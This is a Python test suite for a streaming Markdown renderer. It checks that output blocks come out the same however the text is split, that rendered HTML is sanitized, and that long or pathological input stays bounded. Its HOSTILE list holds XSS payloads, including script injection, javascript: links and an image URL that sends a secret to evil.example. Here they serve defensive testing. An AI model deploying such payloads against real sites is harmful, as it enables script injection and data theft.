"""A body as blocks: however it came, the same blocks, and nothing but what may be shown."""

from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any
from unittest.mock import patch

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.body import Body
from tests.strategies import thorough
from web.page import blocks, markdown
from web.page.blocks import WINDOW, Block, Blocks, mended
from web.page.cpu_limit import with_fallback
from web.page.markdown import block_tokens, code_html, markdown_html


@pytest.fixture(scope="module", autouse=True)
def prepared() -> None:
    """As a web process is before it serves: compiling a lexer takes longer than code may take."""
    markdown.prepare()


# --- how a text may come -------------------------------------------------------------------------


def whole(text: str, kind: str = "text") -> list[Block]:
    """The blocks of a text that is there at once."""
    return fed([text], kind)


def fed(pieces: Sequence[str], kind: str = "text", *, looking: bool = False) -> list[Block]:
    """The blocks of a text that comes in pieces; `looking`: somebody sees each of its states."""
    body, made = Body(), Blocks()
    for piece in filter(None, pieces):
        body.write(kind, piece)
        for _ in made.feed(body):
            pass
        if looking:
            safe(opened.html if (opened := made.open()) else "")
    list(made.end())
    return made.take()


def halves(text: str) -> Iterator[list[str]]:
    """The text in two pieces, parted at every place."""
    for place in range(1, len(text)):
        yield [text[:place], text[place:]]


@contextmanager
def short() -> Iterator[None]:
    """Long is what is longer than a line, so that examples can be short."""
    with patch.multiple(blocks, PIECE=20, WINDOW=60, LOOK=8, SLICE=10, HEAD=30):
        yield


#: What Markdown is made of, so that chance makes some.
SIGNS = (
    *("- ", "* ", "1. ", "2) ", "> ", "    ", "  ", "\n", "\n", "\n\n", "\r\n", "\r", "\t", "\\"),
    *("```", "~~~", "```py\n", "|", "---", "|-|-|\n", "| a | b |\n", "# ", "#", "=", "-", "&amp;"),
    *("*", "**", "_", "`", "~~", "$", "$$", "\\[", "\\]", "\\(", "\\)", "<b>", "[x](", ")", "!["),
    *("http://a.b", "javascript:", "[a]: /x\n", "text", "foo\n", "é", "😀", "\u2028", "\u0085"),
)
sources = st.lists(st.sampled_from(SIGNS), max_size=40).map("".join)
cuts = st.lists(st.integers(0, 200), max_size=6)


def parted(text: str, places: Sequence[int]) -> list[str]:
    """The text in pieces."""
    edges = [0, *sorted(min(place, len(text)) for place in places), len(text)]
    return [text[start:end] for start, end in pairwise(edges)]


@given(sources, cuts)
@thorough(300)
def test_however_a_text_comes_its_blocks_are_the_same(text: str, places: list[int]) -> None:
    assert fed(parted(text, places), looking=True) == whole(text)


@given(sources, cuts)
@thorough(300)
def test_where_a_long_text_is_parted_depends_on_it_alone(text: str, places: list[int]) -> None:
    with short():
        assert fed(parted(text, places)) == fed(list(text)) == whole(text)


@given(sources)
@thorough(300)
def test_the_blocks_are_the_text_and_look_as_the_whole_of_it_does(text: str) -> None:
    found = whole(text)

    assert "".join(block.text for block in found) == text
    assert [block.number for block in found] == list(range(len(found)))
    assert [block.start for block in found] == [0, *(block.end for block in found)][:-1]
    assert squeezed("".join(block.html for block in found)) == squeezed(markdown_html(text))


def squeezed(html: str) -> str:
    """Without what is between the lines."""
    return "".join(html.split())


# --- what may come out ---------------------------------------------------------------------------


class Reader(HTMLParser):
    """Reads as a browser does, and knows what must not be there."""

    TAGS = frozenset(
        {"p", *(f"h{level}" for level in range(1, 7)), "ul", "ol", "li", "blockquote", "hr", "pre"}
        | {"table", "thead", "tbody", "tr", "th", "td", "strong", "em", "s", "br", "code", "a"}
        | {"div", "span"}
    )
    ATTRIBUTES = frozenset({"dir", "class", "start", "href", "target", "rel", "title"})

    def __init__(self, *, convert_charrefs: bool = True) -> None:
        super().__init__(convert_charrefs=convert_charrefs)
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.TAGS, tag
        for name, value in attrs:
            assert name in self.ATTRIBUTES or (tag, name) == ("pre", "data-language"), (tag, name)
            if name == "href":
                address = (value or "").strip().lower()
                assert address.startswith(("http://", "https://", "mailto:")), value
        if tag == "a" and dict(attrs).get("href"):
            assert dict(attrs)["rel"] == "noopener nofollow noreferrer"

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def safe(html: str) -> None:
    """Fails for whatever could run, fetch or hide something."""
    reader = Reader()
    reader.feed(html)
    reader.close()


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</code></pre><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\u006aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](/api/conversations)",
    '[x](https://good.example "onclick=alert(1)")',
    "[x](https://good.example'onmouseover='alert(1))",
    '<https://good.example/"onload=alert(1)>',
    "<javascript:alert(1)>",
    "![x](https://evil.example/?secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~js onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n~~~",
    "| a | b |\n|:-|-:|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    "$$</div><script>alert(1)</script>$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "<!-- <script>alert(1)</script> -->",
    "<style>@import 'https://evil.example'</style>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <form action=https://evil.example><input name=x>",
    "- <details open ontoggle=alert(1)>",
    "> <meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<b id=composer name=thread style='position:fixed;inset:0'>x</b>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_out_wherever_it_is_parted(text: str) -> None:
    expected = whole(text)
    for block in expected:
        safe(block.html)
    for pieces in halves(text):
        assert fed(pieces, looking=True) == expected


@given(st.lists(st.sampled_from([*SIGNS, *HOSTILE]), max_size=8).map("".join), cuts)
@thorough(200)
def test_nothing_hostile_comes_out_in_any_surroundings(text: str, places: list[int]) -> None:
    for block in fed(parted(text, places), looking=True):
        safe(block.html)


@given(st.sampled_from(sorted(markdown.LANGUAGES)), sources)
@thorough(200)
def test_code_in_any_language_is_its_own_text(language: str, code: str) -> None:
    html = code_html(code, language)

    safe(html)
    reader = Reader()
    reader.feed(html)
    reader.close()
    shown = "".join(reader.texts).replace("\r\n", "\n").replace("\r", "\n").rstrip("\n")
    assert shown == code.replace("\r\n", "\n").replace("\r", "\n").rstrip("\n")


def test_a_text_that_lexers_take_for_ever_over_is_shown_plain() -> None:
    with patch.object(markdown, "_FORMATTER") as formatter:
        formatter.format.side_effect = for_ever
        assert "<span" not in code_html("x = 1\n", "py")


def for_ever(*_: object) -> None:
    while True:
        pass


# --- how it looks --------------------------------------------------------------------------------


def test_links_leave_no_trace_and_images_are_not_fetched() -> None:
    html = markdown_html("https://a.example and ![a cat](https://b.example/cat.png)")

    assert html.count('target="_blank" rel="noopener nofollow noreferrer"') == 2
    assert ">Image: a cat</a>" in html
    assert "<img" not in html


@pytest.mark.parametrize(
    "math",
    ["$a_b*c*d$", "$$a_b$$", "\\(x_1 * y_1\\)", "\\[\nx_1\n- y_1\n\\]", "$$\n\\frac{a}{b}\n$$"],
)
def test_math_stays_as_it_is_written(math: str) -> None:
    html = markdown_html(f"Look:\n{math}\nand on")

    assert f'class="math">{math}</' in html


def test_money_is_no_math() -> None:
    assert "math" not in markdown_html("It costs $5 now and $10 later.")


def test_an_underline_makes_no_heading_of_what_was_shown() -> None:
    assert markdown_html("Text:\n---\n").startswith('<p dir="auto">Text:</p>\n<hr>')


def test_html_is_text() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown_html("<b>bold</b>")


def test_parts_are_blocks_of_their_own_and_arguments_are_no_markdown() -> None:
    body = Body()
    body.write("reasoning", "Let me *think*")
    body.write("text", "It is **so**")
    body.write("tool_call", '{"a": "**b**"}', {"id": "1", "name": "look"})
    made = Blocks()
    for _ in made.feed(body):
        pass
    list(made.end())
    found = made.take()

    assert [(block.part, block.kind) for block in found] == [
        (0, "reasoning"),
        (1, "text"),
        (2, "tool_call"),
    ]
    assert "<em>think</em>" in found[0].html
    assert found[2].meta == {"id": "1", "name": "look"}
    assert "**b**" in found[2].html


# --- long ones -----------------------------------------------------------------------------------

LONG = {
    "list": "- an item of a list with some words\n" * 3_000,
    "numbered list": "".join(f"{n}. an item of a list\n" for n in range(1, 4_000)),
    "fence": "```py\n" + "def f(x):\n    return x + 1\n\n" * 3_000,
    "table": "| a | b |\n|---|---|\n" + "| a cell | another |\n" * 4_000,
    "paragraph": "some words and " * 6_000,
    "one word": "x" * 90_000,
    "line of code": "```\n" + "y" * 90_000,
    "quote": "> said somebody\n" * 5_000,
    "lines": "a line\n" * 12_000,
    "item": "- an item\n\n" + "  with more\n\n" * 6_000,
}


@pytest.mark.parametrize("name", LONG)
def test_what_is_open_stays_short_however_long_it_goes_on(name: str) -> None:
    text, body, made = LONG[name], Body(), Blocks()
    for start in range(0, len(text), 10_000):
        body.write("text", text[start : start + 10_000])
        for _ in made.feed(body):
            pass
        opened = made.open()
        assert opened is None or len(opened.text) <= WINDOW + 10
    list(made.end())
    found = made.take()

    assert "".join(block.text for block in found) == text
    assert max(len(block.text) for block in found) <= WINDOW + 10
    assert name == "item" or all(block.joins for block in found[1:])


@pytest.mark.parametrize("text", ["```\n```\n" * 1_000, "Run this:\n\n```\nls -la\n```\n\n" * 700])
def test_what_is_behind_a_fence_is_not_parsed_before_it(text: str) -> None:
    with patch("web.page.blocks.block_tokens", wraps=block_tokens) as made:
        found = whole(text)

    parsed = sum(len(call.args[0]) for call in made.call_args_list)
    assert "".join(block.text for block in found) == text
    assert parsed < 100 * len(text)


#: Each of them takes seconds where nothing is bounded.
DEAR = {
    "quotes": ">" * 100 + "a\n" + "b\n" * 3_900,
    "quotes with blanks": "> " * 50 + "a\n" + "b\n" * 3_900,
    "columns": "|a" * 1_500 + "|\n" + "|-" * 1_500 + "|\n" + "a\n" * 900,
    "ticks": "`" * 3_999 + "a" * 3_999,
    "brackets": "\\(" * 3_999,
}


@pytest.mark.parametrize("name", DEAR)
def test_what_is_dear_is_not_paid_for(name: str) -> None:
    text, body, made = DEAR[name], Body(), Blocks()
    body.write("text", text)
    given_up: list[float] = []

    def limited(seconds: float, work: Callable[[], Any], otherwise: Callable[[], Any]) -> Any:
        def gave_up() -> Any:
            given_up.append(seconds)
            return otherwise()

        return with_fallback(seconds, work, gave_up)

    with patch("web.page.markdown.with_fallback", limited):
        for _ in made.feed(body):
            pass
        made.open()
        for _ in made.end():
            pass

    assert "".join(block.text for block in made.take()) == text
    assert sum(given_up) <= 4 * markdown.BLOCK_SECONDS


@pytest.mark.parametrize("sign", [">", "> ", "- ", "1. "])
def test_what_is_too_deep_is_a_paragraph_and_nothing_of_it_is_lost(sign: str) -> None:
    [first, second, third] = whole(sign * 60 + "deep\n\nMuch *more*.\n\nThe end.")

    assert "deep" in first.html
    assert "<em>more</em>" in second.html
    assert "The end." in third.html


def test_a_long_table_has_its_head_above_every_piece() -> None:
    found = whole(LONG["table"])

    assert len(found) > 5
    assert all("<th" in block.html and block.html.count("<td") > 100 for block in found[:-1])


def test_a_numbered_list_goes_on_counting() -> None:
    first, second, *_ = whole(LONG["numbered list"])

    items = first.html.count("<li")
    assert f'<ol start="{items + 1}">' in second.html


def test_what_follows_a_long_fence_is_no_code() -> None:
    *_, last = whole(LONG["fence"] + "```\n\nAnd **so** on.")

    assert not last.joins
    assert "<strong>so</strong>" in last.html


# --- what is not there yet -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Text:\n-", "Text:\n"),
        ("Text\n#", "Text\n"),
        ("1.", ""),
        ("**bo", "**bo**"),
        ("**bold*", "**bold**"),
        ("**bold**", "**bold**"),
        ("some `code", "some `code`"),
        ("some `code` and", "some `code` and"),
        ("~~gone", "~~gone~~"),
        ("an *emphasis", "an *emphasis*"),
        ("2 * 3", "2 * 3"),
        ("see [this](https://exa", "see this"),
        ("see [this](https://example.com)", "see [this](https://example.com)"),
        ("a `**` b", "a `**` b"),
        ("Look:\n| a | b |", "Look:\n"),
        ("Look:\n| a | b |\n|--", "Look:\n"),
        ("| a | b |\n|---|---|\n| 1", "| a | b |\n|---|---|\n| 1"),
    ],
)
def test_an_end_that_is_not_there_yet_does_not_change_its_looks(text: str, shown: str) -> None:
    assert mended(text) == shown
